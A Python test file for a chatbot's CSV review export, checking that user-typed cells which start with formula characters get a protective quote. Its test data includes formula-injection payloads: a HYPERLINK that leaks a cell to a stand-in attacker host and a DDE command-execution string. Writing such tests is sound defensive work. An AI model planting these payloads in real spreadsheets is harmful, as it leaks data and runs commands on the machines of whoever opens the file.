"""The ``walletbot review`` CSV never hands a spreadsheet a formula to run.

User texts are exported for trainers, who open the file in Excel or
LibreOffice; a message such as ``=HYPERLINK("http://evil", "点我")`` must
arrive as text. OWASP's advice: a ``'`` before a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return.
"""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import pytest
import yaml

from tests.walletbot.trainer.test_review import _conversation, _parse
from walletbot.cli import main
from walletbot.trainer import review_file
from walletbot.trainer.review import ReviewItem

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
    "+cmd|' /C calc'!A0",
    "-2+3 我的钱少了",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_risky_first_character_gets_a_quote(value):
    assert review_file.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["提现多久到账", "1+1=2", "'already quoted", "", " =1", 3, 0.5])
def test_everything_else_is_left_alone(value):
    assert review_file.neutralise(value) == value


def _item(text: str, **overrides) -> ReviewItem:
    fields = dict(text=text, count=1, senders=1, reasons={"fallback": 1}, predicted="faq",
                  confidence=0.3, first_seen=1.0, last_seen=1.0)
    fields.update(overrides)
    return ReviewItem(**fields)


def test_every_written_cell_is_neutralised(tmp_path):
    items = [_item(text) for text in FORMULAS] + [_item("正常的问题", predicted="=evil")]
    path = review_file.write(items, path=tmp_path / "review.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    texts = [row["text"] for row in rows]
    assert texts[:len(FORMULAS)] == ["'" + value for value in FORMULAS]
    assert rows[-1]["text"] == "正常的问题" and rows[-1]["predicted"] == "'=evil"
    assert not any(cell.startswith(tuple(review_file.FORMULA_STARTS))
                   for row in rows for cell in row.values())


def test_yaml_is_written_as_typed(tmp_path):
    path = review_file.write([_item(FORMULAS[0])], path=tmp_path / "review.yml")
    (row,) = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert row["text"] == FORMULAS[0]


def test_the_review_command_neutralises_what_users_typed(tmp_path):
    from rasa.core.tracker_store import SQLTrackerStore
    from rasa.shared.core.domain import Domain

    db = tmp_path / "tracker.db"
    store = SQLTrackerStore(Domain.empty(), dialect="sqlite", db=str(db))
    turns = [("user", _parse(text, "faq", 0.2, faq="withdraw_how", fell_back=True))
             for text in ['=HYPERLINK("http://evil.example","点我")', "@SUM(A1:A9) 提现",
                          "+86 138 1234 5678 打不通客服"]]
    asyncio.run(store.save(_conversation("attacker", turns)))
    store.engine.dispose()
    out = tmp_path / "review.csv"
    assert main(["review", "--db-url", f"sqlite:///{db}", "--out", str(out),
                 "--no-progress"]) == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        texts = sorted(row["text"] for row in csv.DictReader(f))
    assert texts == sorted(["'=HYPERLINK(\"http://evil.example\",\"点我\")", "'@SUM(A1:A9) 提现",
                            "'+86 138****5678 打不通客服"])
    assert "1234" not in Path(out).read_text(encoding="utf-8-sig")


def test_a_neutralised_cell_reads_back_as_typed(tmp_path):
    import csv

    from walletbot.trainer.kb_edit import read_rows
    from walletbot.trainer.review_file import neutralise

    path = tmp_path / "review.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["intent", "text"])
        writer.writerow(["faq/withdraw_fee", neutralise("=提现手续费多少")])
        writer.writerow(["greet", "'你好"])  # a quote the trainer typed stays
    rows = read_rows(path)
    assert [r["text"] for r in rows] == ["=提现手续费多少", "'你好"]
